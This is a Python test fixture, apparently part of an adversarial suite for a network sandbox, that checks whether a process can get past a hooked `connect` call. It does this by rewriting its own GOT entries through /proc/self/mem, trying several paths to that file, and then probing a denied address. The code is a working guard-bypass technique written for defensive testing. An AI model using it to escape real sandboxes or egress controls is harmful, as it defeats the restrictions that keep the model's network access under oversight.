"""Plain Python, no ctypes: unhook `connect` by writing to /proc/self/mem (test/adversarial/procmem.test.ts).

A process may always write its own memory through /proc/self/mem, whatever the page protections (the kernel writes
with FOLL_FORCE: read-only relocations, RELRO, included). The program reads the ELF files it runs from (the Python
executable, whose built-in _socket module calls connect through its GOT, and libc.so.6), finds the GOT slot of
`connect` and libc's own `connect`, and writes the latter into the former: from then on socket.connect() reaches libc
without passing the guard. It tries every spelling of its memory file (/proc/self/mem, /proc/<pid>/mem,
/proc/thread-self/mem, /proc/<pid>/task/<tid>/mem, a symlink, a read-only descriptor re-opened through
/proc/self/fd). Then it requests http://DENIED:8080/procmem-got and prints one JSON line.
argv: <denied-ip> <allowed-ip>
"""

from __future__ import annotations

import contextlib
import json
import os
import platform
import struct
import sys
import threading
import urllib.request

SHT_RELA, SHT_DYNSYM = 4, 11
ET_EXEC = 2
GOT_RELOCS = {"x86_64": (6, 7), "aarch64": (1025, 1026)}[platform.machine()]  # GLOB_DAT, JUMP_SLOT


def sections(data: bytes) -> list[tuple[int, int, int, int, int, int]]:
    """(type, addr, offset, size, link, entsize) of each section header of an ELF64 little-endian file."""
    shoff = struct.unpack_from("<Q", data, 0x28)[0]
    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
    out = []
    for i in range(shnum):
        _n, typ, _f, addr, off, size, link, _i, _a, ent = struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize)
        out.append((typ, addr, off, size, link, ent))
    return out


def dynsyms(data: bytes, secs: list[tuple[int, int, int, int, int, int]]) -> tuple[int, list[tuple[str, int]]]:
    """Index of the .dynsym section and its (name, value) entries."""
    for idx, (typ, _addr, off, size, link, ent) in enumerate(secs):
        if typ != SHT_DYNSYM:
            continue
        stroff = secs[link][2]
        syms = []
        for i in range(size // ent):
            st_name, _info, _other, _shndx, value, _size = struct.unpack_from("<IBBHQQ", data, off + i * ent)
            end = data.index(b"\0", stroff + st_name)
            syms.append((data[stroff + st_name : end].decode(), value))
        return idx, syms
    raise RuntimeError("no .dynsym")


def base_of(path: str) -> int:
    """Load address of the first mapping of `path` at file offset 0."""
    with open("/proc/self/maps") as maps:
        for line in maps:
            parts = line.split()
            if len(parts) >= 6 and parts[5] == path and int(parts[2], 16) == 0:
                return int(parts[0].split("-")[0], 16)
    raise RuntimeError(f"{path} is not mapped")


def mapped(fragment: str) -> str:
    with open("/proc/self/maps") as maps:
        for line in maps:
            parts = line.split()
            if len(parts) >= 6 and fragment in os.path.basename(parts[5]):
                return parts[5]
    raise RuntimeError(f"no {fragment} mapped")


def got_slots(path: str, symbol: str) -> list[int]:
    """Run-time addresses of the GOT slots of `symbol` in the loaded file `path`."""
    with open(path, "rb") as f:
        data = f.read()
    secs = sections(data)
    dyn_idx, syms = dynsyms(data, secs)
    base = 0 if struct.unpack_from("<H", data, 0x10)[0] == ET_EXEC else base_of(path)
    slots = []
    for typ, _addr, off, size, link, ent in secs:
        if typ != SHT_RELA or link != dyn_idx:
            continue
        for i in range(size // ent):
            r_offset, r_info, _addend = struct.unpack_from("<QQq", data, off + i * ent)
            if (r_info & 0xFFFFFFFF) in GOT_RELOCS and syms[r_info >> 32][0] == symbol:
                slots.append(base + r_offset)
    return slots


def libc_function(symbol: str) -> int:
    path = mapped("libc.so.6")
    with open(path, "rb") as f:
        data = f.read()
    _idx, syms = dynsyms(data, sections(data))
    value = next(v for n, v in syms if n == symbol and v)
    return base_of(path) + value


def spellings() -> list[str]:
    """Every way this program can name its own memory file."""
    pid, tid = os.getpid(), threading.get_native_id()
    link = f"/tmp/procmem-link-{pid}"
    with contextlib.suppress(OSError):
        os.symlink("/proc/self/mem", link)
    return ["/proc/self/mem", f"/proc/{pid}/mem", "/proc/thread-self/mem", f"/proc/{pid}/task/{tid}/mem", link]


def open_mem() -> tuple[int | None, dict[str, str]]:
    """A descriptor of this process's memory open for writing, if any spelling gets one; what each got."""
    got: dict[str, str] = {}
    for path in spellings():
        try:
            fd = os.open(path, os.O_RDWR)
        except OSError as e:
            got[path] = os.strerror(e.errno) if e.errno else type(e).__name__
            continue
        got[path] = "opened"
        return fd, got
    # a read-only descriptor, re-opened for writing through /proc/self/fd
    try:
        ro = os.open("/proc/self/mem", os.O_RDONLY)
        fd = os.open(f"/proc/self/fd/{ro}", os.O_RDWR)
        got["reopen"] = "opened"
        return fd, got
    except OSError as e:
        got["reopen"] = os.strerror(e.errno) if e.errno else type(e).__name__
    return None, got


def main() -> None:
    denied, allowed = sys.argv[1], sys.argv[2]
    exe = os.path.realpath("/proc/self/exe")
    slots = got_slots(exe, "connect")
    target = libc_function("connect")
    fd, got = open_mem()
    out: dict[str, object] = {"slots": len(slots), "opens": got}
    if fd is not None:
        for slot in slots:
            os.pwrite(fd, struct.pack("<Q", target), slot)
        os.close(fd)
    try:
        with urllib.request.urlopen(f"http://{denied}:8080/procmem-got", timeout=5) as res:
            out["status"] = res.status
    except OSError as e:
        out["error"] = str(e)
    print(json.dumps(out), flush=True)
    with contextlib.suppress(OSError):
        urllib.request.urlopen(f"http://{allowed}:8080/sentinel-procmem", timeout=5).read()


if __name__ == "__main__":
    main()
